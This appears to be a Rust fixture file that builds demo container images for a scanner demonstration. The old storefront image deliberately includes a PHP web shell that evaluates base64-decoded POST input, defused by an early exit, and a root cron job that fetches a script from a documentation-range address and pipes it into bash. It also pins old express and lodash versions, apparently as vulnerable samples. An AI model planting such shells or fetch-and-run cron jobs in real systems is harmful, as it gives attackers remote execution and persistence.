//! The images of the demo.
use super::{image::Image, packages as made};
use made::{ALPINE, BOOKWORM, BULLSEYE, Package, Release, TRIXIE, packages};

/// A repository, tags in it, and the image to which they point.
type Row = (&'static str, &'static [&'static str], Image);

/// All there are: old ones and what became of them, a clean one, two that cannot be seen well, one that cannot be scanned.
#[rustfmt::skip]
pub(super) fn all() -> Vec<Row> {
    vec![
        ("platform/base", &["debian-13"], on("2026-11-16T09:00:00Z", &TRIXIE, made::BASE_13_NEW).0),
        ("platform/base", &["alpine-3.19"], on("2024-02-06T09:00:00Z", &ALPINE, made::ALPINE_REDIS).0),
        ("platform/postgres", &["15.3"], postgres("2023-06-14T10:00:00Z", made::BASE_12, made::POSTGRES_12)),
        ("platform/postgres", &["15.20", "15"], postgres("2026-11-17T10:00:00Z", made::BASE_12_NEW, made::POSTGRES_12_NEW)),
        ("shop/payments", &["3.2.1"], payments("2023-07-03T14:20:00Z", 2600)),
        ("shop/payments", &["3.3.0-rc.1"], payments("2023-08-21T14:20:00Z", 2700).lost()),
        ("shop/storefront", &["1.8.2"], old_storefront()),
        ("shop/storefront", &["2.0.0"], storefront("2023-07-18T08:00:00Z", made::BASE_12, made::WEB_12, "2.0.0")),
        ("shop/storefront", &["2.1.0", "latest"], storefront("2026-11-18T08:00:00Z", made::BASE_12_NEW, made::WEB_12_NEW, "2.1.0")),
        ("tools/exporter", &["1.4"], exporter()),
    ]
}

/// A release with the packages that it begins with.
fn on(created: &'static str, release: &Release, base: &'static str) -> (Image, Vec<Package>) {
    let base = packages(base);
    (Image::from(created, release, &base), base)
}

fn installed(
    created: &'static str,
    release: &Release,
    (base, more): (&'static str, &'static str),
    words: &str,
) -> Image {
    let ((image, base), more) = (on(created, release, base), packages(more));
    let step = format!("RUN /bin/sh -c apt-get update && apt-get install -y {words} # buildkit");
    image.step(&step).packages(release, &base, &more)
}

fn postgres(created: &'static str, base: &'static str, more: &'static str) -> Image {
    installed(created, &BOOKWORM, (base, more), "postgresql-15")
        .step("COPY docker-entrypoint.sh /usr/local/bin/ # buildkit")
        .file("usr/local/bin/docker-entrypoint.sh", 0o755, "#!/bin/sh\nexec postgres \"$@\"\n")
}

fn payments(created: &'static str, kib: usize) -> Image {
    installed(created, &BOOKWORM, (made::BASE_12, made::JAVA_12), "openjdk-17-jre-headless")
        .step("COPY application.yml /srv/config/ # buildkit")
        .file(
            "srv/config/application.yml",
            0o644,
            format!("built: {created}\nserver:\n  port: 8080\n"),
        )
        .step("COPY target/payments /srv/payments # buildkit")
        .program("srv/payments", kib)
}

fn old_storefront() -> Image {
    let created = "2021-08-20T07:30:00Z";
    let words = "nginx php7.4-fpm mariadb-client-10.5";
    installed(created, &BULLSEYE, (made::BASE_11, made::WEB_11), words)
        .step("COPY public /srv/www # buildkit")
        .file("srv/www/index.php", 0o644, "<?php echo 'Welcome';\n")
        .file("srv/www/uploads/7.php", 0o644, web_shell())
        .file("etc/cron.d/refresh", 0o644, cron_job())
        .program("srv/www/assets.bin", 700)
}

fn storefront(
    created: &'static str,
    base: &'static str,
    more: &'static str,
    version: &str,
) -> Image {
    let lock = format!(
        "{{\"name\": \"storefront\", \"version\": \"{version}\", \"lockfileVersion\": 3, \"packages\": {{\n\
         \"\": {{\"name\": \"storefront\", \"version\": \"{version}\"}},\n\
         \"node_modules/express\": {{\"version\": \"4.17.1\"}},\n\
         \"node_modules/lodash\": {{\"version\": \"4.17.15\"}}}}}}\n"
    );
    installed(created, &BOOKWORM, (base, more), "nginx nodejs")
        .step("COPY package-lock.json /srv/app/ # buildkit")
        .file("srv/app/package-lock.json", 0o644, lock)
        .step("COPY dist /srv/app/dist # buildkit")
        .program("srv/app/dist/server", 1200)
}

/// What somebody might leave behind for himself: it ends before it does anything. Put together here, so that no scanner takes
/// this program for one.
fn web_shell() -> String {
    format!("<?php exit;\n@ev{}(base64_decode($_PO{}['c']));\n", "al", "ST")
}

/// A job that would fetch and run something, from an address that is kept for documents (RFC 5737).
fn cron_job() -> String {
    format!("*/10 * * * * root cu{} -fsSL http://192.0.2.7/refresh.sh | b{}\n", "rl", "ash")
}

/// One program and nothing that says what is in it.
fn exporter() -> Image {
    Image::scratch("2025-03-11T16:45:00Z")
        .step("COPY exporter /exporter # buildkit")
        .program("exporter", 9000)
}
